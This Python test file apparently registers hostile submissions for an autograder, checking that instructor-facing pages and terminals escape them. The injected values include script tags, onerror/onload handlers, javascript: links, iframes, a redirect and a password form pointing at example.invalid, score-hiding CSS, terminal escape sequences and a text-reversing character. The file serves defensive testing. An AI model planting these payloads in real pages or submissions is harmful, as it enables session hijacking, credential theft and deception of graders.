"""Pages: what is handed in wants to run in an instructor's browser or terminal."""

from .bank import attack


def _raises(text):
    return f"def relu_forward(x):\n    raise ValueError({text!r})\n"


def _says(text):
    """The answer in writing is this text."""

    def change(notebook):
        for cell in notebook["cells"]:
            if cell["cell_type"] == "markdown":
                cell["source"] = text

    return change


def _shows(data):
    """A cell has this output."""

    def change(notebook):
        for cell in notebook["cells"]:
            if cell["cell_type"] == "code":
                cell["outputs"] = [{"output_type": "display_data", "data": data, "metadata": {}}]

    return change


def _added(notebook):
    notebook["cells"].append(
        {"cell_type": "code", "id": "added", "metadata": {}, "execution_count": 1, "source": "1",
         "outputs": [{"output_type": "display_data", "metadata": {}, "data": {"text/html": "<script>steal(9)</script>"}}]}
    )  # fmt: skip


SCRIPT = "<script>steal({})</script>"

attack("pages", "a script in an error", "page", _raises(SCRIPT.format(1)), mark=SCRIPT.format(1))
attack("pages", "a script in the name of an error", "page",
       "def relu_forward(x):\n    raise type('<script>steal(2)</script>', (Exception,), {})('x')\n", mark=SCRIPT.format(2))  # fmt: skip
attack(
    "pages",
    "a picture that fails in an error",
    "page",
    _raises("<img src=x onerror=steal(3)>"),
    mark="<img src=x onerror=steal(3)>",
)
attack("pages", "terminal sequences in an error", "page", _raises("\x1b]0;steal\x07\x1b[2J"), mark="\x1b]0;steal")
attack("pages", "text that reads backwards in an error", "page", _raises("\u202estnioP lluF"), mark="\u202estnioP")
attack("pages", "a script in an answer", "page", notebook=_says(SCRIPT.format(4)), mark=SCRIPT.format(4))
attack(
    "pages",
    "a drawing that loads in an answer",
    "page",
    notebook=_says("<svg onload=steal(5)></svg>"),
    mark="<svg onload=steal(5)>",
)
attack("pages", "a link that runs in an answer", "page",
       notebook=_says("[my derivation](javascript:steal(6))"), mark='href="javascript:steal(6)"')  # fmt: skip
attack("pages", "a frame in an answer", "page",
       notebook=_says('<iframe src="https://example.invalid/7"></iframe>'), mark='<iframe src="https://example.invalid/7"')  # fmt: skip
attack("pages", "a style that hides the score in an answer", "page",
       notebook=_says("<style>body{display:none}/*8*/</style>"), mark="<style>body{display:none}/*8*/")  # fmt: skip
attack("pages", "a page that moves on in an answer", "page",
       notebook=_says('<meta http-equiv="refresh" content="0;url=https://example.invalid/10">'),
       mark='<meta http-equiv="refresh" content="0;url=https://example.invalid/10"')  # fmt: skip
attack("pages", "a form that asks for a password in an answer", "page",
       notebook=_says('<form action="https://example.invalid/11"><input name="password"></form>'),
       mark='<form action="https://example.invalid/11"')  # fmt: skip
attack(
    "pages",
    "a script in an output of a test",
    "page",
    notebook=_shows({"text/html": SCRIPT.format(12)}),
    mark=SCRIPT.format(12),
)
attack("pages", "javascript as an output of a test", "page",
       notebook=_shows({"application/javascript": "steal(13)"}), mark="steal(13)")  # fmt: skip
attack("pages", "a script in a cell of its own", "page", notebook=_added, mark="<script>steal(9)</script>")
attack(
    "pages", "a script in the name of a file", "page", files={"<script>steal(14)": "x = 1\n"}, mark="<script>steal(14)"
)
